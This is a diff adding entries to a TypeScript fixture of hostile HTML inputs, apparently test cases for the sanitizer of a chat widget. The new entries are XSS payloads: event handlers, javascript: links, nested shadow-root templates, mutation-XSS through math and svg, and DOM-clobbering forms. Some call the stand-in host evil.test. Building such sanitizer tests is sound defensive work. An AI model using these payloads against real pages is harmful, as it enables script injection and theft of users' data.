@@ -23,10 +23,14 @@ export const hostile: Record<string, string> = {
   'link to a sheet': `<link rel="stylesheet" href="https://evil.test/x.css"><link rel=import href=x>`,
   'style element': `<style>body{display:none}@import "https://evil.test/x.css"</style>`,
   'shadow root': `<div><template shadowrootmode="open"><script>${JS}</script><img src=x onerror=${JS}></template></div>`,
+  'closed shadow root': `<p>a<template shadowrootmode="closed" shadowrootclonable><img src=x onerror=${JS}></template></p>`,
+  'shadow root within a shadow root': `<div><template shadowrootmode="open"><div><template shadowrootmode="closed"><a href="javascript:${JS}">a</a></template></div></template></div>`,
+  'template in a template': `<template><template><img src=x onerror=${JS}></template><script>${JS}</script></template>`,
   'form that takes over': `<form action="https://evil.test"><input name=a><button formaction="javascript:${JS}">b</button></form>`,
   'frames and portals': `<frameset><frame src="javascript:${JS}"></frameset><portal src="https://evil.test"></portal>`,
   marquee: `<marquee onstart="${JS}">a</marquee>`,
   'custom element': `<desk-chat site="x" relay="https://evil.test"></desk-chat><desk-chat-panel></desk-chat-panel>`,
+  'built-in element made custom': `<button is="desk-chat-button" onclick="${JS}">a</button><p is="x-y">b</p>`,
   'dialog in front of the chat': `<dialog open>Your password, please</dialog>`,
 
   // Addresses
@@ -43,6 +47,7 @@ export const hostile: Record<string, string> = {
   'schemes DOMPurify allows': `<a href="ftp://evil.test">a</a><a href="sms:1">b</a><a href="xmpp:a@b">c</a><a href="callto:1">d</a>`,
   'address of the page itself': `<a href="/account/delete">a</a><a href="?logout">b</a><a href="#top">c</a>`,
   'address without a scheme': `<a href="//evil.test/x">a</a><img src="//evil.test/x.png">`,
+  'address after a blank that browsers keep': `<a href="\u00a0https://evil.test/x">a</a><a href="\u3000https://evil.test/x">b</a>`,
   'host disguised by a name': `<a href="https://bank.example@evil.test/">a</a>`,
   'image of another host': `<img src="https://evil.test/pixel.gif" alt="Pixel">`,
   'image of a host that looks alike': `<img src="https://media.test.evil.test/x.png"><img src="https://media.test:8443/x.png">`,
@@ -74,11 +79,13 @@ export const hostile: Record<string, string> = {
   'mutation by plain text': `<plaintext><img src=x onerror=${JS}>`,
   'mutation by xmp': `<xmp><p title="</xmp><img src=x onerror=${JS}>"></xmp>`,
   'mutation by annotation': `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${JS}></style></annotation-xml></math>`,
+  'foreign names in HTML and HTML names in foreign': `<svg><p><div><img src=x onerror=${JS}></svg><math><mi><b title="</math><img src=x onerror=${JS}>"></b></mi></math><mtext><a href="javascript:${JS}">a</a></mtext>`,
   'processing instruction': `<?xml-stylesheet href="javascript:${JS}"?><p>a</p><![CDATA[<img src=x onerror=${JS}>]]>`,
   'unclosed everything': `<img src="x" onerror="${JS}" <p "><b title='`,
 
   // Names and looks of the page
   'clobbering by id': `<a id="body" href="https://fine.test">a</a><img name="getElementById"><form id=attributes><input id=x></form>`,
+  'clobbering of what is walked through': `<form><input name=childNodes><input name=attributes><input name=localName><b>a</b></form><form><select name=childNodes><option>c</select></form>`,
   'clobbering by name': `<img name="currentScript"><a name="DeskChat" id="DeskChat">a</a>`,
   'style attribute': `<div style="position:fixed;inset:0;background:url(https://evil.test)">a</div>`,
   'class attribute': `<div class="primary question">a</div>`,
